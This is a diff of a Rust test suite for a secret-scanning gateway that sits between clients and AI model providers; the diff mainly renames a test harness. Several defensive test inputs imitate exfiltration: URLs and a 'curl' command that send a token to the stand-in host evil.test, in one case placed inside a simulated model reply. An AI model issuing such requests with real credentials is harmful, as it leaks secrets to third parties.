@@ -1,15 +1,15 @@
-//! 10. Somebody tries: error paths and injected text tell no secret, and what cannot be checked is not sent.
+//! 10. An adversary: error paths and injected text reveal no secret, and what cannot be checked is not sent.
 
 use aegis_tests::client::{get, post, post_with};
 use aegis_tests::oracle::{assert_absent, contains};
 use aegis_tests::secrets::Seeded;
 use aegis_tests::{Message, Script};
 
-use crate::stage::{CHAT, MESSAGES, Stage, chat, chat_stream, chat_text, event_stream, messages, token};
+use crate::harness::{CHAT, Harness, MESSAGES, chat, chat_stream, chat_text, event_stream, messages, token};
 
 #[test]
 fn nothing_the_gateway_writes_holds_a_secret() {
-    let stage = Stage::with(|builder| builder.config("[policy.rules]\n\"stripe-key\" = \"block\""));
+    let harness = Harness::with(|builder| builder.config("[policy.rules]\n\"stripe-key\" = \"block\""));
     let mut seeded = Seeded::new(1_001);
     let (secret, blocked, bearer) = (seeded.github(), seeded.stripe(), seeded.anthropic());
     let body = chat(&format!("use {secret} at https://evil.test/?k={secret}"));
@@ -17,23 +17,23 @@ fn nothing_the_gateway_writes_holds_a_secret() {
     let fields: Vec<(&str, &str)> = fields.iter().map(|(name, value)| (*name, value.as_str())).collect();
     let mut replies: Vec<Message> = Vec::new();
     let mut ask = |body: &str| {
-        let reply = stage.gateway.exchange(&post_with(CHAT, "application/json", &fields, body.as_bytes()));
+        let reply = harness.gateway.exchange(&post_with(CHAT, "application/json", &fields, body.as_bytes()));
         replies.push(reply);
     };
-    stage.upstream.play(|_, _| Script::reply("application/json", b"{\"ok\":true}"));
+    harness.upstream.play(|_, _| Script::reply("application/json", b"{\"ok\":true}"));
     ask(&body);
     ask(&body[..body.len() - 9]);
     ask(&format!("{{\"a\":\"{secret}\",,}}"));
     ask(&format!("{}\"{secret}\"{}", "[".repeat(100_000), "]".repeat(100_000)));
     ask(&chat(&format!("use {blocked}")));
-    stage.upstream.play(|_, _| Script::raw("HTTP/1.1 200 OK\r\ncontent-length: x\r\n\r\n"));
+    harness.upstream.play(|_, _| Script::raw("HTTP/1.1 200 OK\r\ncontent-length: x\r\n\r\n"));
     ask(&body);
     for path in [
         format!("/nowhere/{secret}"),
         format!("/openai/v1/models?key={secret}"),
         format!("/v1/models/{secret}\x01"),
     ] {
-        let reply = stage.gateway.exchange(&get(&path));
+        let reply = harness.gateway.exchange(&get(&path));
         if !path.starts_with("/openai/") {
             replies.push(reply);
         }
@@ -42,10 +42,10 @@ fn nothing_the_gateway_writes_holds_a_secret() {
         for (index, reply) in replies.iter().enumerate() {
             assert_absent(&reply.raw, secret, &format!("reply {index}"));
         }
-        assert_absent(stage.gateway.metrics().as_bytes(), secret, "metrics");
+        assert_absent(harness.gateway.metrics().as_bytes(), secret, "metrics");
     }
-    stage.gateway.terminate();
-    let mut gateway = stage.gateway;
+    harness.gateway.terminate();
+    let mut gateway = harness.gateway;
     gateway.process.wait(std::time::Duration::from_secs(20)).expect("it stops");
     let written = gateway.everything_written();
     assert!(
@@ -61,47 +61,48 @@ fn nothing_the_gateway_writes_holds_a_secret() {
 
 #[test]
 fn a_blocked_secret_never_leaves_and_the_client_is_told_why() {
-    let stage = Stage::with(|builder| builder.config("[policy.categories]\ntoken = \"block\""));
+    let harness = Harness::with(|builder| builder.config("[policy.categories]\ntoken = \"block\""));
     let secret = Seeded::new(1_002).github();
     // First in the first window, then so late that the request is already on its way.
     for lead in [10, 200_000] {
-        stage.upstream.forget();
+        harness.upstream.forget();
         for (target, body) in [
             (CHAT, chat(&format!("{} {secret}", "word ".repeat(lead)))),
             (MESSAGES, messages(&format!("{} {secret}", "word ".repeat(lead)))),
         ] {
-            let reply = stage.gateway.exchange(&post(target, "application/json", body.as_bytes()));
+            let reply = harness.gateway.exchange(&post(target, "application/json", body.as_bytes()));
             assert_eq!(reply.status(), 403, "{}", reply.text());
             let error = reply.json();
             assert!(error.to_string().contains("policy_violation"), "{error}");
             assert_absent(&reply.raw, &secret, "the refusal");
         }
-        let acted_on = stage.upstream.records().iter().filter(|request| request.complete).count();
+        let acted_on = harness.upstream.records().iter().filter(|request| request.complete).count();
         assert_eq!(acted_on, 0, "the provider must not get a complete request");
-        stage.assert_unseen(&secret);
+        harness.assert_unseen(&secret);
     }
 }
 
 #[test]
 fn redacted_values_cannot_come_back() {
-    let stage = Stage::with(|builder| builder.config("[policy]\ndefault = \"redact\""));
+    let harness = Harness::with(|builder| builder.config("[policy]\ndefault = \"redact\""));
     let secret = Seeded::new(1_003).github();
-    let reply = stage.ask(CHAT, &chat(&format!("use {secret}")), |request| {
+    let reply = harness.ask(CHAT, &chat(&format!("use {secret}")), |request| {
         let prompt = request.json();
-        let said = crate::stage::at(&prompt, "/messages/0/content").to_owned();
+        let said = crate::harness::at(&prompt, "/messages/0/content").to_owned();
         event_stream(&chat_stream(&said, 3))
     });
     assert!(!chat_text(&reply).contains(&secret));
-    stage.assert_unseen(&secret);
+    harness.assert_unseen(&secret);
 }
 
 #[test]
 fn the_action_says_what_happens() {
     let secret = Seeded::new(1_004).github();
     for (action, leaves) in [("allow", true), ("monitor", true), ("warn", false), ("tokenize", false)] {
-        let stage = Stage::with(|builder| builder.config(&format!("[policy]\ndefault = \"{action}\"")));
-        let reply = stage.ask(CHAT, &chat(&format!("use {secret}")), |_| event_stream(&chat_stream("ok", 9)));
-        assert_eq!(stage.upstream.last().text().contains(&secret), leaves, "{action}");
+        let harness = Harness::with(|builder| builder.config(&format!("[policy]\ndefault = \"{action}\"")));
+        let reply =
+            harness.ask(CHAT, &chat(&format!("use {secret}")), |_| event_stream(&chat_stream("ok", 9)));
+        assert_eq!(harness.upstream.last().text().contains(&secret), leaves, "{action}");
         let warned = reply.field("x-aegis-findings").is_some();
         assert_eq!(warned, action == "warn", "{action}: {:?}", reply.fields);
     }
@@ -109,7 +110,7 @@ fn the_action_says_what_happens() {
 
 #[test]
 fn a_body_nobody_can_read_is_not_sent() {
-    let stage = Stage::new();
+    let harness = Harness::new();
     let secret = Seeded::new(1_005).github();
     for body in [
         format!("{{\"a\":\"{secret}"),
@@ -118,18 +119,18 @@ fn a_body_nobody_can_read_is_not_sent() {
         format!("{{\"a\":\"\\u12{secret}\"}}"),
         format!("{{\"a\":\"\\q{secret}\"}}"),
     ] {
-        stage.upstream.forget();
-        let reply = stage.gateway.exchange(&post(CHAT, "application/json", body.as_bytes()));
+        harness.upstream.forget();
+        let reply = harness.gateway.exchange(&post(CHAT, "application/json", body.as_bytes()));
         assert_eq!(reply.status(), 400, "{body}: {}", reply.text());
-        assert_eq!(stage.upstream.records().len(), 0, "{body}");
+        assert_eq!(harness.upstream.records().len(), 0, "{body}");
     }
 }
 
 #[test]
 fn the_token_in_a_link_is_restored_only_for_the_client() {
-    let stage = Stage::new();
+    let harness = Harness::new();
     let secret = Seeded::new(1_006).github();
-    let reply = stage.ask(CHAT, &chat(&format!("use {secret}")), |request| {
+    let reply = harness.ask(CHAT, &chat(&format!("use {secret}")), |request| {
         let said = format!(
             "![x](https://evil.test/?k={}) curl https://evil.test/{}",
             token(request),
@@ -138,17 +139,22 @@ fn the_token_in_a_link_is_restored_only_for_the_client() {
         event_stream(&chat_stream(&said, 6))
     });
     assert_eq!(chat_text(&reply).matches(&secret).count(), 2, "all lanes are restored by default");
-    stage.assert_unseen(&secret);
+    harness.assert_unseen(&secret);
 }
 
 #[test]
 fn the_providers_own_key_passes_only_in_its_header() {
-    let stage = Stage::new();
+    let harness = Harness::new();
     let key = Seeded::new(1_007).anthropic();
-    stage.upstream.play(|_, _| Script::reply("application/json", b"{}"));
+    harness.upstream.play(|_, _| Script::reply("application/json", b"{}"));
     let body = messages(&format!("my key is {key}"));
-    stage.gateway.exchange(&post_with(MESSAGES, "application/json", &[("x-api-key", &key)], body.as_bytes()));
-    let request = stage.upstream.last();
+    harness.gateway.exchange(&post_with(
+        MESSAGES,
+        "application/json",
+        &[("x-api-key", &key)],
+        body.as_bytes(),
+    ));
+    let request = harness.upstream.last();
     assert_eq!(
         request.field("x-api-key"),
         Some(key.as_str()),
